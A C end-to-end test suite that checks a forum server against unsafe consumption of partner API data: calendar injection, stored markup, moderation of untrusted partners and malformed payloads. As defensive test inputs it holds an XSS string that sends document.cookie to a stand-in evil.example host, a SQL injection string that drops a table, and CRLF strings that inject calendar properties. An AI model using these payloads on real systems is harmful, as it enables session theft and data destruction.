/*
 * e2e_owasp_api10_partner_data.c — OWASP API Security Top 10 (2023) API10, unsafe consumption of
 * APIs, against the real server.
 *
 * forumnet consumes data pushed by third-party systems: partner integrations post events that reach
 * members' screens and calendar apps.  That data is held to the same rules as any client's: text
 * that tries to break out of its calendar property (CRLF, END:VEVENT, extra properties) stays one
 * escaped property; markup is returned as the string it was; an untrusted partner's events wait for
 * a human before members see them; a partner's external_id is its own namespace (another partner
 * reusing it learns nothing of the first one's event); and oversized or malformed partner payloads
 * are 400 like anybody's.
 */
#include "harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static harness_account g_admin, g_mgr, g_prac;
static char g_site[HARNESS_ID_MAX];
static harness_partner g_trusted, g_untrusted, g_other;

static int group_setup(void **state) {
  (void)state;
  harness_suite_start(NULL, &g_admin);
  harness_new_site_id(g_admin.token, g_site);
  harness_new_manager_quick(g_admin.token, g_site, &g_mgr);
  harness_new_member_quick(g_admin.token, "practitioner", g_site, &g_prac);
  harness_new_partner(g_admin.token, true, &g_trusted);
  harness_new_partner(g_admin.token, false, &g_untrusted);
  harness_new_partner(g_admin.token, false, &g_other);
  return 0;
}

/* The site's calendar feed as a practitioner sees it, unfolded (RFC 5545 3.1), as a new string. */
static char *unfolded_feed(void) {
  http_response *r = http_get(hpath("/v1/events.ics?site_id=%s", g_site), g_prac.token);
  assert_status(r, 200);
  char *out = malloc(r->body_len + 1);
  assert_non_null(out);
  size_t o = 0;
  for (size_t i = 0; i < r->body_len; i++) {
    if (r->body[i] == '\r' && i + 2 < r->body_len && r->body[i + 1] == '\n' &&
        (r->body[i + 2] == ' ' || r->body[i + 2] == '\t')) {
      i += 2; /* a fold: CRLF and one white space character vanish */
      continue;
    }
    out[o++] = r->body[i];
  }
  out[o] = '\0';
  http_response_free(r);
  return out;
}

/* Lines of feed (CRLF-separated) that start with prefix. */
static int count_lines(const char *feed, const char *prefix) {
  int n = 0;
  size_t plen = strlen(prefix);
  for (const char *p = feed; p && *p;) {
    if (strncmp(p, prefix, plen) == 0)
      n++;
    const char *eol = strstr(p, "\r\n");
    p = eol ? eol + 2 : NULL;
  }
  return n;
}

static void test_partner_text_cannot_break_out_of_the_calendar(void **state) {
  (void)state;
  char *before = unfolded_feed();
  int events_before = count_lines(before, "BEGIN:VEVENT");
  free(before);
  json_t *b = harness_event_body("seminar", 4 * 86400, 3600, g_site);
  json_object_set_new(b, "title", json_string("Partner seminar\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected"));
  json_object_set_new(b, "description",
                      json_string("Line one\nATTENDEE:mailto:victim@evil.example\r\nRRULE:FREQ=SECONDLY;COUNT=99999"));
  json_object_set_new(b, "location", json_string("Room 1;X-INJECTED=1:\\, \"quoted\"\r\nORGANIZER:mailto:x@evil"));
  http_response *r = http_json("POST", "/v1/events", g_trusted.token, b);
  if (r->status == 400) { /* refusing control characters outright is a fine answer too */
    print_message("# a partner title with CR LF is refused (400)\n");
    http_response_free(r);
    return;
  }
  assert_status(r, 201);
  char id[HARNESS_ID_MAX];
  snprintf(id, sizeof id, "%s", hjson_str(r->json, "id"));
  http_response_free(r);

  char *feed = unfolded_feed();
  assert_int_equal(count_lines(feed, "BEGIN:VEVENT"), events_before + 1);
  assert_int_equal(count_lines(feed, "END:VEVENT"), events_before + 1);
  const char *injected[] = {"SUMMARY:Injected", "ATTENDEE", "RRULE", "ORGANIZER", "X-INJECTED"};
  for (size_t i = 0; i < sizeof injected / sizeof injected[0]; i++)
    if (count_lines(feed, injected[i]) != 0)
      harness_fail("partner text became a calendar property %s:\n%s", injected[i], feed);
  /* the event's own SUMMARY is one property, its newlines escaped */
  const char *summary = strstr(feed, "SUMMARY:Partner seminar");
  if (!summary)
    harness_fail("the partner's event has no SUMMARY in the feed:\n%s", feed);
  const char *eol = strstr(summary, "\r\n");
  assert_non_null(eol);
  char line[512];
  snprintf(line, sizeof line, "%.*s", (int)(eol - summary), summary);
  if (!strstr(line, "\\nEND:VEVENT"))
    harness_fail("the SUMMARY does not carry the partner's newlines escaped: %s", line);
  free(feed);
  /* the JSON API returns the text as it was sent */
  json_t *ev = harness_event_get(id, g_prac.token);
  assert_json_str(ev, "title", "Partner seminar\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected");
  json_decref(ev);
}

static void test_partner_markup_is_returned_as_data(void **state) {
  (void)state;
  const char *markup = "<img src=x onerror=alert(1)><script>fetch('//evil.example/'+document.cookie)</script>";
  json_t *b = harness_event_body("workshop", 4 * 86400, 3600, g_site);
  json_object_set_new(b, "description", json_string(markup));
  char id[HARNESS_ID_MAX];
  json_decref(harness_new_event(g_trusted.token, b, id));
  http_response *r = http_get(hpath("/v1/events/%s", id), g_prac.token);
  assert_status(r, 200);
  assert_json_str(r->json, "description", markup);
  const char *ct = http_header(r, "Content-Type");
  assert_true(ct && strncmp(ct, "application/json", 16) == 0);
  assert_header_equal(r, "X-Content-Type-Options", "nosniff");
  http_response_free(r);
}

static void test_untrusted_partner_data_waits_for_a_human(void **state) {
  (void)state;
  char id[HARNESS_ID_MAX];
  json_t *ev = harness_new_event(g_untrusted.token, harness_event_body("seminar", 4 * 86400, 3600, g_site), id);
  assert_json_str(ev, "status", "pending");
  json_decref(ev);
  /* network-wide reach asks for no less */
  char net[HARNESS_ID_MAX];
  ev = harness_new_event(g_untrusted.token, harness_event_body("seminar", 4 * 86400, 3600, NULL), net);
  assert_json_str(ev, "status", "pending");
  json_decref(ev);
  const char *ids[] = {id, net};
  for (int i = 0; i < 2; i++) {
    http_response *r = http_get(hpath("/v1/events/%s", ids[i]), g_prac.token);
    assert_problem(r, 404);
    http_response_free(r);
    assert_false(harness_list_contains("/v1/events", g_prac.token, "id", ids[i]));
  }
  char *feed = unfolded_feed();
  if (strstr(feed, id) || strstr(feed, net))
    harness_fail("a pending partner event is in the members' calendar feed");
  free(feed);
  /* the site's manager publishes it: then members see it */
  harness_event_publish(id, g_mgr.token);
  json_decref(harness_event_get(id, g_prac.token));
  /* an audience naming a site that does not exist is refused, not stored */
  json_t *b = harness_event_body("seminar", 4 * 86400, 3600, "00000000-0000-4000-8000-00000000dead");
  http_response *r = http_json("POST", "/v1/events", g_untrusted.token, b);
  assert_problem(r, 400);
  http_response_free(r);
}

static void test_external_ids_are_per_partner(void **state) {
  (void)state;
  char ext[HARNESS_NAME_MAX];
  harness_unique("ext'; DROP TABLE events; --", ext);
  json_t *b = harness_event_body("seminar", 4 * 86400, 3600, g_site);
  json_object_set_new(b, "external_id", json_string(ext));
  char first[HARNESS_ID_MAX];
  json_t *ev = harness_new_event(g_untrusted.token, b, first);
  assert_json_str(ev, "external_id", ext);
  json_decref(ev);
  /* the same partner again: 409 naming its own event */
  b = harness_event_body("seminar", 4 * 86400, 3600, g_site);
  json_object_set_new(b, "external_id", json_string(ext));
  http_response *r = http_json("POST", "/v1/events", g_untrusted.token, b);
  assert_problem(r, 409);
  if (!strstr(r->body, first))
    harness_fail("the 409 for a repeated external_id does not name the existing event: %s", r->body);
  http_response_free(r);
  /* another partner with the same external_id: its own event, and no word of the first */
  b = harness_event_body("seminar", 4 * 86400, 3600, g_site);
  json_object_set_new(b, "external_id", json_string(ext));
  r = http_json("POST", "/v1/events", g_other.token, b);
  if (strstr(r->body, first))
    harness_fail("another partner learned the first partner's event id through external_id: %s", r->body);
  assert_status(r, 201);
  http_response_free(r);
}

static void test_malformed_partner_payloads(void **state) {
  (void)state;
  char big[10100];
  memset(big, 'd', sizeof big - 1);
  big[sizeof big - 1] = '\0';
  struct {
    const char *key;
    json_t *value;
  } bad[] = {
      {"title", json_string("")},
      {"description", json_string(big)},
      {"capacity", json_integer(-5)},
      {"capacity", json_string("100")},
      {"starts_at", json_string("next tuesday")},
      {"kind", json_string("party")},
      {"audience", json_pack("{s:s}", "scope", "everyone")}, /* errors[] names audience.scope */
      {"external_id", json_integer(42)},
      {"partner_id", json_string(g_other.id)},
  };
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    json_t *b = harness_event_body("seminar", 4 * 86400, 3600, g_site);
    json_object_set_new(b, bad[i].key, bad[i].value);
    http_response *r = http_json("POST", "/v1/events", g_trusted.token, b);
    if (r->status != 400)
      harness_fail("a partner event with a bad %s: expected 400, got %ld %s", bad[i].key, r->status, r->body);
    assert_error_field(r, strcmp(bad[i].key, "audience") == 0 ? "audience.scope" : bad[i].key);
    http_response_free(r);
  }
  /* JSON that is not JSON, from a partner */
  http_response *r = http_request("POST", "/v1/events", g_trusted.token, "application/json", "{\"kind\":", NULL);
  assert_problem(r, 400);
  http_response_free(r);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_partner_text_cannot_break_out_of_the_calendar),
      cmocka_unit_test(test_partner_markup_is_returned_as_data),
      cmocka_unit_test(test_untrusted_partner_data_waits_for_a_human),
      cmocka_unit_test(test_external_ids_are_per_partner),
      cmocka_unit_test(test_malformed_partner_payloads),
  };
  return cmocka_run_group_tests(tests, group_setup, harness_suite_teardown);
}
